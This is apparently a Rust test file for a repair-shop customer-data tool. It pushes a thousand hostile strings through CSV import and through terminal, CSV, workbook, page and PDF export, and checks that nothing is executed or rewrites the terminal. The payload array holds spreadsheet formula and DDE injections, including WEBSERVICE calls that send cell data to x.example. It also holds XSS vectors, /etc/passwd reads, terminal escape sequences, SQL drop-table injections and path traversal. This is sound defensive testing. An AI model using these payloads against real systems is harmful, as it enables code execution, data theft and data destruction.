//! A thousand strings that were written to do harm, by the front door into every table and out by every door: to the
//! terminal, into CSV, workbooks, pages, PDF and Parquet. Each arrives as the text that it is, and nothing is executed.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::process::Command;
use std::sync::OnceLock;

use super::documents::installed;
use super::support::{QUICK, Run, Shop, ask, retain, run, skip, small, speak_english};

mod names_of_things;
mod outputs;
mod paper;
mod separators;

/// What does harm where it is taken for more than text; no two are the same once control characters are gone.
#[rustfmt::skip]
const PAYLOADS: [&str; 100] = [
    // Formulas, of programs that begin them with other signs too.
    "=1+1", "+2+2", "-3+3", "@SUM(4)", "\t=5+5", "\r=6+6", ";=7+7", "＝8+8", "＋9+9", "－10+1", "＠SUM(11)",
    "=cmd|' /C calc'!A0", "+cmd|'/C notepad'!A1", "-cmd|'/C x'!'A2'", "@cmd|x!A3", "=DDE(\"cmd\";\"/C calc\";\"A4\")",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=WEBSERVICE(\"http://x.example/\"&A1)",
    "=IMPORTXML(\"http://x.example\",\"//a\")", "=IMPORTDATA(\"http://x.example\")", "=IMAGE(\"http://x.example/i.png\")",
    "=1/0", "=NOW()", "=A1:A99", "=INDIRECT(\"B1\")", "{=SUM(A1:A2)}", "=\u{feff}12+1", "\n=13+1", "+8613800000001", "=+--14",
    // Pages.
    "<script>alert(1)</script>", "</script><script>x()</script>", "<img src=x onerror=x()>", "<svg/onload=x()>",
    "<iframe src=javascript:x()>", "<a href=\"javascript:x()\">x</a>", "javascript:alert(2)", "data:text/html,<b>x</b>",
    "<style>*{display:none}</style>", "<!--", "--><b>", "</title></head>", "<base href=//x.example>", "&lt;b&gt;", "&#x3C;b>",
    "{{7*7}}", "{% raw %}", "${7*7}", "\" autofocus onfocus=x() \"x", "' onclick=x() 'x",
    "\u{2028}alert(3)\u{2029}x", "url(http://x.example)", "expression(alert(4))", "<xmp><b>", "<plaintext>",
    // The typesetter.
    "#read(\"/etc/passwd\")", "#eval(\"6*7\")", "#include \"/etc/passwd\"", "#image(\"/etc/x.png\")", "#panic(\"x\")",
    "*bold* _italic_", "$x^2 + sum$", "@reference <label>", "```raw```", "#let x = 1; #x", "\\u{41} \\ #[", "= Heading //",
    // The terminal.
    "\u{1b}[2Jcleared", "\u{1b}]8;;http://x.example\u{7}link\u{1b}]8;;\u{7}", "\u{1b}]52;c;eA==\u{7}paste", "bell\u{7}rung",
    "over\rwritten", "\u{202e}gnp.exe\u{202c}", "\u{2066}isolated\u{2069}", "\u{9b}31mred", "\u{9d}0;title\u{9c}",
    "\u{8}\u{8}back", "del\u{7f}eted", "\u{1b}[6n\u{1b}c", "\u{200e}\u{200f}\u{61c}marks",
    // SQL.
    "'; drop table orders; --", "x' or '1'='1", "\"; delete from customers; --", "’; drop view visits; --", "1); copy orders to '../../x'",
    // Places.
    "../../x", "..\\..\\x", "CON", "nul.txt", "/etc/passwd", "C:\\Windows\\x", "file:///etc/passwd", "[Book.xlsx]Sheet!A1",
    // XML, and what Excel makes of it.
    "]]><x/>", "<![CDATA[x", "&#x3D;1+1", "&bogus;", "\u{fffe}\u{ffff}non", "_x000D__x003D_", "<?xml version='1.0'?>",
];

/// Where a payload stands: alone, behind what ends a cell, an element or a literal, or turned round.
const WRAPPINGS: [[&str; 2]; 10] = [
    ["", ""],
    ["", "\u{644}\u{627} 👩‍👩‍👧 先生"],
    ["-", "\u{301}\u{301}"],
    ["=", ""],
    ["＝", ""],
    ["\",", ""],
    ["]]></c></td>", ""],
    ["x';", "--"],
    ["王伟", "\u{1b}[0m"],
    ["\u{202e}", "\u{202c}"],
];

/// A thousand of them, three very long.
fn strings() -> Vec<String> {
    let mut all: Vec<String> = WRAPPINGS
        .iter()
        .flat_map(|[before, after]| PAYLOADS.map(|p| format!("{before}{p}{after}")))
        .collect();
    all.truncate(997);
    all.extend(
        ["=1+1&", "<b>#x$", "长\u{301}"].map(|part| part.repeat(10_000 / part.chars().count())),
    );
    all
}

/// Marks that nobody sees: what turns the reading direction, separates lines or is no character.
const MARKS: &str = "\u{61c}\u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}\u{fffe}\u{ffff}";

/// What a spreadsheet may take for the beginning of a formula.
const BEGINNINGS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// A text without the apostrophes that keep spreadsheets from taking it, or what follows a semicolon in it, for a formula.
fn armed(cell: &str) -> String {
    let mut out = String::new();
    let mut may_begin = true;
    let mut rest = cell.chars().peekable();
    while let Some(c) = rest.next() {
        if may_begin && c == '\'' && rest.peek().is_some_and(|next| BEGINNINGS.contains(next)) {
            continue;
        }
        out.push(c);
        may_begin = c == ';' || (may_begin && c == '"');
    }
    out
}

/// The string as a table holds it: without control characters, those of Windows-1252 as what they stand for, and
/// without blanks at its ends.
fn held(text: &str) -> String {
    let meant = text.replace('\u{9b}', "›").replace('\u{9c}', "œ");
    let kept: String = meant.chars().filter(|c| !c.is_control()).collect();
    kept.trim().to_owned()
}

/// The string as it is shown to people: also without marks that nobody sees.
fn seen(text: &str) -> String {
    let kept: String = held(text).chars().filter(|c| !MARKS.contains(*c)).collect();
    kept.trim().to_owned()
}

/// The files of a shop: name, header, and the rows of each customer. `ANY` is another string in each row, `FEW` one of
/// forty, `NAME` the customer's own; `DD` is a day.
const FILES: [(&str, &str, &[&str]); 10] = [
    (
        "orders.csv",
        "门店,工单号,客户编号,客户名称,手机,车牌号,VIN,进厂日期,结算日期,维修类型,付费方式,应收金额,实收金额,优惠金额,服务顾问,来源,工单状态,=1+1 <b>#x",
        &[
            "STORE,ROA,NO,NAME,PHONE,PLATE,VIN,2025-05-DD,2025-05-DD,保养,自费,500,500,-0.50,ANY,ANY,已结算,ANY",
            "STORE,ROB,NO,NAME,PHONE,PLATE,VIN,2025-11-DD,2025-11-DD,CLASS,ANY,700,700,0,ANY,ANY,已结算,ANY",
        ],
    ),
    (
        // Of vehicles that the other files do not know; every other row has no date.
        "refused.csv",
        "门店,工单号,客户名称,车牌号,进厂日期,实收金额",
        &[
            "STORE,ROC,NAME,粤B100DD,ANY,ANY",
            "STORE,ROC,NAME,粤B100DD,2025-11-DD,300",
        ],
    ),
    (
        "=1+1 $x$ <b>\u{202e}\u{1b}[2J'\".csv",
        "门店,客户编号,客户名称,客户类型,手机,地址,区域,服务顾问,建档日期",
        &["STORE,NO,NAME,个人,PHONE,ANY,ANY,FEW,2024-05-DD"],
    ),
    (
        "vehicles.csv",
        "门店,VIN,车牌号,客户编号,发动机号,品牌,车系,车型,保险到期日,保养间隔月",
        &["STORE,VIN,PLATE,NO,ANY,FEW,ANY,ANY,2026-01-DD,6"],
    ),
    (
        "lines.csv",
        "门店,工单号,行号,类别,编码,名称,数量,单价,金额,技师",
        &["STORE,ROB,1,工时,ANY,ANY,1,500,500,ANY"],
    ),
    (
        "appointments.csv",
        "门店,预约号,车牌号,客户编号,登记时间,预约时间,渠道,状态,服务顾问",
        &["STORE,ROA,PLATE,NO,2025-11-01,2025-11-DD,ANY,ANY,ANY"],
    ),
    (
        "complaints.csv",
        "门店,投诉号,车牌号,客户编号,日期,类别,内容,负责人,结果",
        &["STORE,ROA,PLATE,NO,2025-11-DD,ANY,ANY,FEW,ANY"],
    ),
    (
        "follow_ups.csv",
        "门店,任务号,车牌号,客户编号,日期,渠道,目的,结果,细分,备注,流失原因,负责人",
        &["STORE,ROA,PLATE,NO,2025-06-DD,电话,ANY,ANY,ANY,ANY,ANY,FEW"],
    ),
    (
        "surveys.csv",
        "门店,工单号,车牌号,客户编号,日期,得分,满分,服务顾问,意见",
        &["STORE,ROB,PLATE,NO,2025-11-DD,6,10,ANY,ANY"],
    ),
    (
        "policies.csv",
        "门店,保单号,车牌号,客户编号,保险公司,险种,起保日,到期日,保费,业务员",
        &["STORE,ROA,PLATE,NO,ANY,商业险,2025-01-DD,2026-01-DD,2700,FEW"],
    ),
];

/// One cell of a row of customer `i`.
fn cell(spec: &str, column: usize, i: usize, strings: &[String]) -> String {
    let string = |at: usize| strings[at % strings.len()].clone();
    let begun = |begins: [&str; 5], end: &str| format!("{}{i}{end}", begins[i % 5]);
    match spec {
        "NAME" => string(i),
        // 7 and 1,000 have no factor in common: a column has every string.
        "ANY" => string(i * 7 + column * 131),
        "FEW" => string(i % 40 * 23),
        "CLASS" if i.is_multiple_of(50) => string(i),
        "CLASS" => "保养".to_owned(),
        "STORE" => string(i % 4 * 100 + 30),
        "NO" => begun(["=C", "@C", "<b>", "\u{202e}C", "x';--"], ""),
        "ROA" | "ROB" | "ROC" => begun(["=", "+", "-", "\u{1b}[2J", "#x"], spec),
        "PLATE" => format!("粤A1{i:04}"),
        "VIN" => format!("LGG8D2D19PZ{i:06}"),
        "PHONE" => format!("138{i:08}"),
        other => other.replace("DD", &format!("{:02}", 1 + i % 28)),
    }
}

/// A shop with a customer for each string, and in every other column of text the strings in turn, scored; made once.
fn filled() -> &'static Shop {
    static MADE: OnceLock<Shop> = OnceLock::new();
    MADE.get_or_init(|| {
        let (shop, strings) = (Shop::new(), strings());
        let mut paths = Vec::new();
        for (name, header, templates) in FILES {
            let mut writer = csv::Writer::from_writer(Vec::new());
            writer.write_record(header.split(',')).unwrap();
            // Few rows are refused: else the whole file would be.
            let customers = if name == "refused.csv" {
                20
            } else {
                strings.len()
            };
            for (i, row) in (0..customers).flat_map(|i| templates.iter().map(move |row| (i, row))) {
                let cells = row.split(',').enumerate();
                let cells = cells.map(|(column, spec)| cell(spec, column, i, &strings));
                writer.write_record(cells).unwrap_or_else(|e| panic!("{e}"));
            }
            paths.push(shop.file(&format!("in/{name}"), writer.into_inner().unwrap()));
        }
        assert_harmless("import", &shop.import_files(&paths).succeeds());
        told(&shop, &format!("score --config {}", settings(&shop)));
        shop
    })
}

/// Settings under which everybody who may be called is on the list, of a department with such a name.
fn settings(shop: &Shop) -> String {
    let text = format!(
        "department = \"=1+1 <b>#x$ \\u202e]]>\"\n{QUICK}[lists]\nholdout_share = 0.0\ncapacity_per_caller = 0\n"
    );
    shop.file("hostile.toml", text);
    "hostile.toml".to_owned()
}

fn tables(shop: &Shop) -> Vec<String> {
    shop.ask("select table_name from duckdb_tables() where not internal order by 1")
}

#[test]
fn a_thousand_strings_come_in_as_the_text_that_they_are() {
    let (shop, strings) = (filled(), strings());
    let names: BTreeSet<String> = strings.iter().map(|s| held(s)).collect();
    assert_eq!((strings.len(), names.len()), (1_000, 1_000));
    let held_names = shop.ask("select distinct name from customers");
    assert_eq!(held_names.into_iter().collect::<BTreeSet<_>>(), names);
    // Every row of every file has its fate, and what was refused is told with its reason.
    let fates = "sum(loaded), sum(replaced + unchanged + duplicate), sum(rejected)";
    assert_eq!(
        shop.one(&format!(
            "select count(*), sum(records), {fates} from imports"
        )),
        "10|10040|10020|0|20"
    );
    assert_eq!(shop.one("select count(*) from orders"), "2020");
    assert_eq!(
        shop.one("select count(*), any_value(reason), any_value(\"column\") from rejects"),
        "20|bad-date|进厂日期"
    );
    // The table of the one string that would drop it is there, and so are all others; none has come.
    let wanted = ask(
        small(),
        "select table_name from duckdb_tables() where not internal order by 1",
    );
    assert_eq!(tables(shop), wanted);
    // For mending, refused rows stand as they came.
    let refused = fs::read_dir(shop.path("shop.duckdb.rejects"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap();
    let refused = cells_of(&refused.path());
    assert_eq!(refused.len(), 21);
    assert!(
        (0..20).all(|i| refused[i + 1][2] == strings[i]),
        "{refused:?}"
    );
}

/// The cells of a CSV file.
fn cells_of(path: &Path) -> Vec<Vec<String>> {
    let bytes = fs::read(path).unwrap();
    let text = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(&bytes);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text);
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Runs a command, which says nothing that rewrites a terminal.
#[track_caller]
fn told(shop: &Shop, line: &str) -> Run {
    let ended = shop.retain(line).succeeds();
    assert_harmless(line, &ended);
    ended
}

/// Nothing was said that rewrites a terminal.
#[track_caller]
fn assert_harmless(what: &str, run: &Run) {
    for text in [&run.stdout, &run.stderr] {
        let bad = text
            .chars()
            .position(|c| c != '\n' && (c.is_control() || MARKS.contains(c)));
        let around = bad.map(|at| {
            text.chars()
                .skip(at.saturating_sub(40))
                .take(60)
                .collect::<String>()
        });
        assert_eq!(around, None, "{what}");
    }
}

#[test]
fn the_terminal_is_told_nothing_that_rewrites_it() {
    let shop = filled();
    let mut said = 0;
    for line in [
        "import in --dry-run",
        "status",
        "quality",
        "merge list --reveal",
        "inventory",
        "doctor",
        "audit verify",
        // Of a payload for each kind of harm.
        "explain 粤A10067 --reveal",
        "explain 粤A10173 --reveal",
        "explain 粤A10572",
        "subject 粤A10068",
        "subject 粤A10930",
        "campaign result",
        "uplift",
    ] {
        for flag in ["", "--json"] {
            let ended = told(shop, &format!("{line} {flag}"));
            if !flag.is_empty() {
                ended.json();
            }
            said += usize::from(ended.stdout.contains("alert(") || ended.stdout.contains("1+1"));
        }
    }
    assert!(said >= 6, "the strings are not there: {said}");
    let orders = shop.path("in/orders.csv");
    let profile = retain(["profile".as_ref(), orders.as_os_str()]).succeeds();
    assert!(profile.stdout.contains("1+1"), "{}", profile.stdout);
    assert_harmless("profile", &profile);
    // What is wrong with a command is told without it, too.
    assert_harmless(
        "export",
        &shop.retain("export \u{1b}[2J\u{202e}x").ends_with(2),
    );
    // Data go into a pipe as they are, control characters aside, and to a terminal as it can bear them.
    let piped = shop.retain("export imports").succeeds().stdout;
    assert!(
        piped.contains("\u{202e}[2J") && !piped.contains('\u{1b}'),
        "{piped}"
    );
    let Some(script) = installed(&["script"]).filter(|_| cfg!(target_os = "linux")) else {
        return skip("data on a terminal", "no script");
    };
    let mut terminal = Command::new(script);
    speak_english(&mut terminal);
    // Without the moving line that says what is being done.
    let line = format!(
        "'{}' export imports --db shop.duckdb 2>/dev/null",
        env!("CARGO_BIN_EXE_retain")
    );
    terminal
        .args(["-qec", &line, "/dev/null"])
        .current_dir(shop.path(""));
    let mut ended = run(&mut terminal).succeeds();
    ended.stdout = ended.stdout.replace("\r\n", "\n");
    assert!(ended.stdout.contains("<b>[2J"), "{}", ended.stdout);
    assert_harmless("export to a terminal", &ended);
}
